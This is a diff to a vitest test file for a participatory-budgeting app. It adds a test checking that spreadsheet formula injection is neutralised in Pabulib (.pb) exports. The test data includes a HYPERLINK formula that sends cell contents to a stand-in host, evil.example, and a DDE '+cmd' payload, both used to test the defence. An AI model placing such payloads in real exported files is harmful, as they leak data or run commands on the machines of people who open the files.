@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestContext, type TestClient, type TestContext } from '../../../test/support/app.ts';
-import { writePabulib } from '../../engines/budgeting/index.ts';
+import { readPabulib, writePabulib } from '../../engines/budgeting/index.ts';
 import { createBudgetFixture, type BudgetFixture } from './test-fixture.ts';
 
 let ctx: TestContext;
@@ -125,6 +125,26 @@ describe('Pabulib import and export', () => {
     const body = await exported.text();
     expect(body).toContain('a;600;Square;nature');
     expect(body).toContain('num_votes;0');
+  });
+
+  it('neutralises titles a spreadsheet would run in the .pb download, keeping ids, costs and ballots exact', async () => {
+    await admin.post(`/admin/budgets/component/${f.componentId}`, { title_fr: '=Formules', amount: '1000', currency: 'EUR', neighbourhood_id: '' });
+    const budgetId = (await budgetsOf(f.componentId)).find((b) => b.title_fr === '=Formules')!.id;
+    const text = writePabulib({
+      budget: 1000,
+      voteType: 'approval',
+      projects: [
+        { id: '7', cost: 600, name: '=HYPERLINK("http://evil.example/?"&A1,"Square")', category: '+cmd|\' /C calc\'!A0' },
+        { id: '8', cost: 500, name: '-2+3 pistes' },
+      ],
+      ballots: [['7'], ['7', '8']],
+    });
+    expect((await upload(admin, budgetId, text, true)).status).toBe(303);
+    const exported = await (await ctx.client().get(`/budgets/${budgetId}/projects.pb`)).text();
+    expect(exported).toContain('7;600;"\'=HYPERLINK(""http://evil.example/?""&A1,""Square"")";\'+cmd|\' /C calc\'!A0');
+    expect(exported).toContain("8;500;'-2+3 pistes");
+    expect(exported).toContain("description;'=Formules");
+    expect(readPabulib(exported).projects.map((p) => [p.id, p.cost])).toEqual([['7', 600], ['8', 500]]);
   });
 
   it('does not let anyone download ballots while voting is open', async () => {
